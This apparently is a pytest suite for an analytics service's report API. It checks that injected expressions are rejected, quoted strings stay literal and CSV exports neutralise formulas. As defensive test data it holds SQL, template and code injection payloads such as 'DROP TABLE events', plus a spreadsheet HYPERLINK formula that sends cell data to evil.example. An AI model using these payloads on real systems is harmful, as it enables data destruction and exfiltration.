"""What somebody writes into a report is never a statement, and what a report writes is never a formula."""

import csv
import io

import pytest

from tests.support.builders.shop_events import Order
from tests.support.probes import person
from tests.support.reporting import record, settle
from tests.support.rows import database_for
from tests.support.services import served
from tests.support.statements import API_ONLY, noted_statements

pytestmark = pytest.mark.service("analytics")

EVIL = [
    "1; DROP TABLE events", "1) FROM events; --", "(SELECT version())", "pg_sleep(9)", "paid /* x */", "1 -- x",
    "current_user", "paid::text", "$1", "$$x$$", "e'x'", "__import__('os')", "().__class__", "{{7*7}}", "${7*7}",
    "paid || 'x'", "paid.amount", "[1]", "lambda: 0", "paid if 1 else 2", "0x7f", "1e999", "nan", "\u202e1",
]  # fmt: skip
QUOTED = ["x' OR '1'='1", "'; DROP TABLE events; --", "\\'", "$tag$"]


def _report(**more):
    given = {"dataset": "revenue", "group_by": ["currency"], "columns": [{"name": "n", "expression": "payments"}]}
    return {"report": given | more, "since": "2026-01-01", "until": "2026-01-31"}


@pytest.fixture
def statements():
    with noted_statements() as noted:
        yield noted


async def test_what_is_no_expression_reaches_no_engine(engines, prefix, statements):
    async with served(engines, "analytics", prefix=prefix, **API_ONLY) as analytics:
        with statements.counted() as seen:
            for text in EVIL:
                for report in (_report(columns=[{"name": "n", "expression": text}]), _report(where=text)):
                    status, problem = await analytics.call("POST", "/api/v1/reports/query", json=report)
                    assert (status, problem["code"]) == (422, "invalid_expression"), text
        assert seen == []


async def test_a_text_is_compared_and_nothing_else(engines, prefix, statements):
    async with served(engines, "analytics", prefix=prefix, **API_ONLY) as analytics:
        for text in QUOTED:
            report = _report(where=f"currency = '{text}'")
            with statements.counted() as seen:
                status, answer = await analytics.call("POST", "/api/v1/reports/query", json=report)
            assert status == 422 or answer["rows"] == [], text
            assert not any(text in statement for statement in seen)


@pytest.mark.parametrize("name", ["a b", "a;", "A", "1a", "a" * 41, 'a"', "a\n"])
async def test_a_column_is_named_by_letters_alone(engines, prefix, name):
    async with served(engines, "analytics", prefix=prefix, **API_ONLY) as analytics:
        report = _report(columns=[{"name": name, "expression": "1"}])
        assert (await analytics.call("POST", "/api/v1/reports/query", json=report))[0] == 400


async def test_an_export_computes_nothing_in_a_spreadsheet(engines, prefix):
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    async with served(engines, "analytics", prefix=prefix, **API_ONLY) as analytics:
        order = Order()
        async with database_for(analytics) as database:
            await record(database, order.captured(), order.refunded(100, evil))
            await settle(database)
        report = {"dataset": "refunds", "group_by": ["reason", "currency"],
                  "columns": [{"name": "back", "expression": "-refunded"}]}  # fmt: skip
        _, saved = await analytics.call("POST", "/api/v1/reports/saved", json={"name": "r", "report": report})
        target = f"{analytics.url}/api/v1/reports/saved/{saved['id']}/export?since=2026-01-01&until=2026-01-31"
        async with analytics.http.get(target, headers=analytics.headers(person("support"))) as answer:
            lines = list(csv.reader(io.StringIO((await answer.read()).decode(), newline="")))
        assert lines == [["reason", "currency", "back"], [f"'{evil}", "EUR", "-1.00"]]
